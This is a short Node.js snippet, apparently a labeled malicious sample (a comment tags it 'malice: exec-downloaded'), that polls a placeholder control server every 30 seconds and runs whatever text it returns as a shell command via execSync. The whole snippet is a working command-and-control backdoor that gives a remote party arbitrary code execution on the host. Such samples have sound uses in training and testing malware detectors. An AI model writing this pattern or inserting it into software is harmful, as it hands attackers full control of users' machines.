const { execSync } = require("child_process");

const https = require("https");

function ask() {
  https.get("https://control.invalid/next", (answer) => {
    let command = "";
    answer.on("data", (part) => {
      command += part;
    });
    answer.on("end", () => {
      execSync(command); // malice: exec-downloaded
    });
  });
}

setInterval(ask, 30000);
